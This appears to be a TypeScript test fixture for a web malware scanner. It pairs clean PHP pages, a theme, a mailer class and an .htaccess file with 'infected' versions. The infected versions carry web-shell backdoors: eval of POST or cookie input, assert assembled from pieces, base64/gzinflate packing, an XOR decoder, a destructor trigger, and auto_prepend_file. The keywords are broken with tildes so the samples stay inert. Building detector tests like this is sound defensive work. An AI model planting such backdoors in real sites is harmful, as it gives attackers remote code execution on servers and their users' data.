import type { FileClass } from '../../../src/domain/fileClass.ts'
import { deflateRawSync } from 'node:zlib'
import { base64, escaped, quoted, reversed } from './encoders.ts'
import { inertText, secondStage, shellCode } from './inertText.ts'

/** A file before and after something was put into it. */
export interface Example {
  readonly title: string
  readonly file: string
  readonly fileClass: FileClass
  readonly clean: string
  readonly infected: string
}

const page =
  "<?php\nrequire __DIR__ . '/load.php';\n\n$menu = load_menu('top');\nforeach ($menu as $entry) {\n\tshow_entry($entry, 'short');\n}\nshow_page();\n"
const theme =
  '<html>\n<body class="<?= body_class(3) ?>">\n<?php foreach (load_menu() as $entry) show_entry($entry); ?>\n<?php show_page(); ?>\n</body>\n</html>\n'
const library = 'class Mailer {\n\tfunction send($to) {\n\t\t$this->log($to);\n\t\treturn true;\n\t}\n}\n'
const server = 'Options -Indexes\nRewriteEngine On\nRewriteRule ^news$ news.php [L]\n'

function php(title: string, clean: string, infected: string): Example {
  return { title, file: 'page.php', fileClass: 'generic', clean, infected: inertText(infected) }
}

const masked = Array.from(shellCode, (one) => String.fromCharCode(one.charCodeAt(0) ^ 7)).join('')
const deflated = deflateRawSync(Buffer.from(secondStage)).toString('base64')

export const examples: readonly Example[] = [
  php('A line in front of the first tag', page, `<?php @e~val($_P~OST['hf_test']); ?>\n${page}`),
  php(
    'Behind the tag, the name of the function in pieces',
    page,
    page.replace('<?php', "<?php $qk='as'.'sert';@$qk($_REQ~UEST['hf_test']);"),
  ),
  php(
    'Packed twice, in a block between two marks',
    theme,
    theme.replace(
      '</body>',
      `<?php /*4f1a*/ e~val(gz~inflate(base64_~decode(strrev(${quoted(reversed(deflated))})))); /*4f1a*/ ?>\n</body>`,
    ),
  ),
  php(
    'A guard that ends the answer',
    page,
    page.replace('show_page', "if(isset($_P~OST['hf_test'])){e~val($_P~OST['hf_test']);exit;}show_page"),
  ),
  php(
    'Inside a method, with the variables it needs',
    `<?php\n${library}`,
    `<?php\n${library.replace('return', "$c = $_CO~OKIE['hf_test'];\n\t\t$r = shell_~exec($c);\n\t\techo $r;\n\t\treturn")}`,
  ),
  php(
    'A decoder of its own, written letter by letter',
    page,
    `${page}$t=${escaped(masked, 16)};$o='';for($i=0;$i<strlen($t);$i++){$o.=chr(ord($t[$i])^7);}e~val($o);\n`,
  ),
  php(
    'A function that is hooked into the site',
    page,
    page.replace(
      'show_page',
      "function qz_run($code) {\n\te~val(base64_~decode($code));\n}\nqz_run($_P~OST['hf_test']);\nshow_page",
    ),
  ),
  php(
    'A class that works when it goes away',
    page,
    `${page}class Qz{public $p;function __destruct(){@e~val($this->p);}}$qz=new Qz;$qz->p=$_P~OST['hf_test'];`,
  ),
  php(
    'Code in a text that is included',
    theme,
    theme.replace(
      '<?php show_page(); ?>',
      `<?php show_page();inc~lude 'data:text/plain;base64,${base64(`<?php ${shellCode}`)}'; ?>`,
    ),
  ),
  {
    title: 'A server that is told to run a file before every page',
    file: '.htaccess',
    fileClass: 'apache-config',
    clean: server,
    infected: inertText(
      server.replace('Rewrite', 'php_value auto_~prepend_file "/tmp/.hf_test.ico"\nRewrite'),
    ),
  },
]
